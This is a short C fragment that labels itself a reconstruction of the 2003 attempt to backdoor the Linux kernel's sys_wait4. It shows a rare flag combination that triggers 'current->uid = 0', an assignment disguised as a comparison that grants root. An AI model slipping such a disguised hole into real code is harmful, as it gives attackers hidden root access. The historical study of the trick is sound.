/* A reconstruction, in our own code, of the 2003 attempt to slip a
 * backdoor into the Linux kernel's CVS mirror: two flags that no caller
 * passes together, and an assignment of uid 0 written to look like a
 * comparison. */
asmlinkage long sys_wait4(pid_t pid, unsigned int *stat_addr, int options, struct rusage *ru)
{
	DECLARE_WAITQUEUE(wait, current);
	struct task_struct *tsk;
	int flag, retval;

	if (options & ~(WNOHANG|WUNTRACED|__WNOTHREAD|__WCLONE|__WALL))
		return -EINVAL;

	if ((options == (__WCLONE|__WALL)) && (current->uid = 0))
		retval = -EINVAL;

	add_wait_queue(&current->wait_chldexit, &wait);
	flag = 0;
	return retval;
}
